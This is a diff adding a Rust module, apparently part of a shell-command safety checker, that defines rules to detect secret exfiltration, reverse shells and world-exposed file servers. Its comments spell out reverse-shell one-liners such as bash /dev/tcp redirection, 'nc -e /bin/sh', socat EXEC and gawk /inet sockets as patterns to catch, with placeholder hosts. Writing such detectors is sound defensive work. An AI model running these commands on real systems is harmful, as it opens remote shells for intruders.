@@ -1,0 +1,227 @@
+//! The `exfiltration` pack: a secret flowing to a network sink (`TG-EXFIL-SECRET-UPLOAD`, in
+//! [`flows`]: the engine weighs each flow against the policy's `exfiltration.allow`), a shell
+//! wired to a network connection (`TG-EXFIL-REVERSE-SHELL`), and a server publishing a home
+//! or credential directory on every interface (`TG-EXFIL-PUBLIC-SERVER`).
+
+mod flows;
+mod server;
+mod sinks;
+
+use std::ops::Range;
+
+use super::{Check, Matcher as M, Seen};
+use crate::knowledge::exfiltration::{SOCAT_EXEC_TYPES, Sender, sender};
+use crate::knowledge::interpreters::is_interpreter;
+use crate::knowledge::programs::{Class, in_class, table_name};
+use crate::model::{CommandAnalysis, SimpleCommand};
+use crate::syntax::words::basename;
+
+pub use flows::{SecretFlow, secret_flows};
+
+/// The rule the engine reports for a [`SecretFlow`] the policy does not allow.
+pub const SECRET_UPLOAD: &str = "TG-EXFIL-SECRET-UPLOAD";
+const REVERSE_SHELL: &str = "TG-EXFIL-REVERSE-SHELL";
+const PUBLIC_SERVER: &str = "TG-EXFIL-PUBLIC-SERVER";
+
+/// Shells (the program table's `Shell` class), for the matchers' index.
+const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "yash", "posh", "rbash", "csh",
+    "tcsh",
+];
+
+/// Interpreters whose inline code is read for sockets wired to a shell.
+const CODE: &[&str] = &[
+    "python", "pypy", "perl", "ruby", "node", "nodejs", "php", "bun",
+];
+
+/// The pack's matchers (the secret flows are the engine's, see [`flows`]).
+pub(super) const MATCHERS: &[M] = &[
+    M::new(REVERSE_SHELL, SHELLS, &[]).check(Check::ShellOnSocket),
+    // `exec 5<>/dev/tcp/h/p; sh <&5 >&5`: the socket opened for the shell that follows.
+    M::new(REVERSE_SHELL, &["exec"], &[]).check(Check::ShellOnSocket),
+    M::new(REVERSE_SHELL, &["nc", "ncat", "netcat"], &[]).check(Check::NetcatRunsShell),
+    M::new(REVERSE_SHELL, &["socat"], &[]).check(Check::SocatRunsShell),
+    M::new(REVERSE_SHELL, CODE, &[]).check(Check::InlineReverseShell),
+    M::new(REVERSE_SHELL, &["awk", "gawk"], &[]).check(Check::AwkSocketShell),
+    M::new(PUBLIC_SERVER, &["python", "pypy", "php", "ruby"], &[]).check(Check::PublicServer),
+];
+
+/// bash's network pseudo-files.
+fn is_socket_path(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// Whether the command line `line` starts a shell that takes its commands from stdin: a
+/// shell or interpreter with options only (`/bin/sh`, `bash -li`, `python3 -i`,
+/// `cmd.exe`), not one given a script or code.
+pub(super) fn starts_a_shell(line: &str) -> bool {
+    let mut words = line.split_whitespace();
+    let Some(first) = words.next() else {
+        return false;
+    };
+    let name = basename(first).to_ascii_lowercase();
+    let shell = in_class(&name, Class::Shell)
+        || is_interpreter(&name).is_some_and(|opts| !opts.is_empty())
+        || matches!(name.as_str(), "cmd" | "cmd.exe" | "powershell" | "pwsh");
+    shell && words.all(|w| w.starts_with('-'))
+}
+
+/// Whether `c` is a raw socket program (nc, ncat, netcat, telnet, socat).
+fn is_socket(c: &SimpleCommand) -> bool {
+    table_name(&c.program).and_then(sender) == Some(Sender::Socket) || c.program_lower() == "socat"
+}
+
+/// What the pipes of one analysis connect, computed once for the checks that ask (each
+/// question is then answered in constant time, whatever the number of commands).
+pub(crate) struct PipeFacts {
+    /// Per command: a socket program reads its output.
+    feeds_socket: Vec<bool>,
+    /// Running count of socket programs before each index.
+    sockets_before: Vec<u32>,
+    /// Running count of commands before each index that print more than literal text
+    /// (anything but `echo` and `printf`).
+    non_literal_before: Vec<u32>,
+    /// The last shell that reads its commands from stdin.
+    last_stdin_shell: Option<usize>,
+}
+
+impl PipeFacts {
+    pub(crate) fn new(analysis: &CommandAnalysis) -> PipeFacts {
+        let n = analysis.commands.len();
+        let mut diff = vec![0i64; n + 1];
+        let mut sockets_before = vec![0u32; n + 1];
+        let mut non_literal_before = vec![0u32; n + 1];
+        let mut last_stdin_shell = None;
+        for (i, c) in analysis.commands.iter().enumerate() {
+            let socket = is_socket(c);
+            if socket && let Some(r) = &c.stdin_from {
+                let end = r.end.min(n);
+                let start = r.start.min(end);
+                diff[start] += 1;
+                diff[end] -= 1;
+            }
+            sockets_before[i + 1] = sockets_before[i] + u32::from(socket);
+            let literal = matches!(c.program_lower().as_str(), "echo" | "printf");
+            non_literal_before[i + 1] = non_literal_before[i] + u32::from(!literal);
+            if in_class(&c.program_lower(), Class::Shell) && c.reads_code_from_stdin {
+                last_stdin_shell = Some(i);
+            }
+        }
+        let mut running = 0i64;
+        let feeds_socket = diff[..n]
+            .iter()
+            .map(|d| {
+                running += d;
+                running > 0
+            })
+            .collect();
+        PipeFacts {
+            feeds_socket,
+            sockets_before,
+            non_literal_before,
+            last_stdin_shell,
+        }
+    }
+
+    fn count(counts: &[u32], r: &Range<usize>) -> u32 {
+        let end = r.end.min(counts.len() - 1);
+        counts[end] - counts[r.start.min(end)]
+    }
+}
+
+/// A shell reading its commands from a network connection or sending its output to one:
+/// `bash -i >& /dev/tcp/h/p 0>&1`, `cat fifo | sh -i | nc h p > fifo`, `nc h p | sh`, and
+/// `exec 5<>/dev/tcp/h/p` followed by a shell.
+pub(super) fn shell_on_socket(seen: &Seen<'_>) -> bool {
+    let cmd = seen.cmd;
+    let pipes = || seen.pipes.get_or_init(|| PipeFacts::new(seen.analysis));
+    if cmd.program_lower() == "exec" {
+        let opens = cmd.writes.iter().any(|w| is_socket_path(w));
+        return opens && pipes().last_stdin_shell.is_some_and(|s| s > seen.index);
+    }
+    // A script file or `-c` string: its output on a socket is data, not a shell.
+    let interactive = cmd.reads_code_from_stdin || cmd.flags.contains("-i");
+    if !interactive {
+        return false;
+    }
+    if cmd.writes.iter().any(|w| is_socket_path(w))
+        || cmd.stdin_file.as_deref().is_some_and(is_socket_path)
+    {
+        return true;
+    }
+    if !cmd.in_pipeline && cmd.stdin_from.is_none() {
+        return false;
+    }
+    let pipes = pipes();
+    // Fed by a socket, or feeding one (a script it was given in the pipe is no shell).
+    let fed = cmd
+        .stdin_from
+        .as_ref()
+        .is_some_and(|r| PipeFacts::count(&pipes.sockets_before, r) > 0);
+    let literal_input = cmd
+        .stdin_from
+        .as_ref()
+        .is_some_and(|r| PipeFacts::count(&pipes.non_literal_before, r) == 0);
+    let feeds = pipes.feeds_socket.get(seen.index).copied().unwrap_or(false);
+    fed || (feeds && !literal_input)
+}
+
+/// `nc -e /bin/sh h p`, `ncat --exec bash`, `nc -c sh`, `ncat --sh-exec 'bash -i'`: netcat
+/// runs a shell on the connection (listening or connecting).
+pub(super) fn netcat_runs_shell(seen: &Seen<'_>) -> bool {
+    seen.view
+        .opts
+        .iter()
+        .filter(|o| matches!(o.name.as_str(), "-e" | "--exec" | "-c" | "--sh-exec"))
+        .filter_map(|o| o.value.as_deref())
+        .any(starts_a_shell)
+}
+
+/// `socat tcp:h:p exec:/bin/sh`, `socat TCP-LISTEN:4444 EXEC:'bash -li',pty`: socat runs a
+/// shell on a network address.
+pub(super) fn socat_runs_shell(seen: &Seen<'_>) -> bool {
+    let mut network = false;
+    let mut shell = false;
+    for o in seen.view.operands() {
+        let (kind, rest) = o.split_once(':').unwrap_or((o, ""));
+        if crate::facts::destinations::socat_network_type(kind) {
+            network = true;
+        }
+        if SOCAT_EXEC_TYPES.contains(&kind.to_ascii_uppercase().as_str()) {
+            let line = rest.split(',').next().unwrap_or("");
+            shell |= starts_a_shell(line);
+        }
+    }
+    network && shell
+}
+
+/// A file server on every interface serving a home or credential directory.
+pub(super) fn public_server(seen: &Seen<'_>) -> bool {
+    server::public_server(seen, seen.cx)
+}
+
+/// gawk's network special files (`/inet/tcp/0/HOST/PORT`) with commands run on what comes
+/// in: `cmd |& getline`, `system(…)`.
+pub(super) fn awk_socket_shell(cmd: &SimpleCommand) -> bool {
+    cmd.args.iter().any(|a| {
+        let socket = ["/inet/", "/inet4/", "/inet6/"]
+            .iter()
+            .any(|p| a.contains(p));
+        socket && (a.contains("getline") || a.contains("system("))
+    })
+}
+
+/// Inline interpreter code that wires a shell to a socket.
+pub(super) fn inline_reverse_shell(cmd: &SimpleCommand) -> bool {
+    cmd.inline_network.as_ref().is_some_and(|n| n.reverse_shell)
+}
+
+#[cfg(test)]
+use crate::{
+    analyze,
+    model::{CommandContext, Destination},
+    rules::packs::evaluate_packs,
+};
+
+#[cfg(test)]
+mod tests;
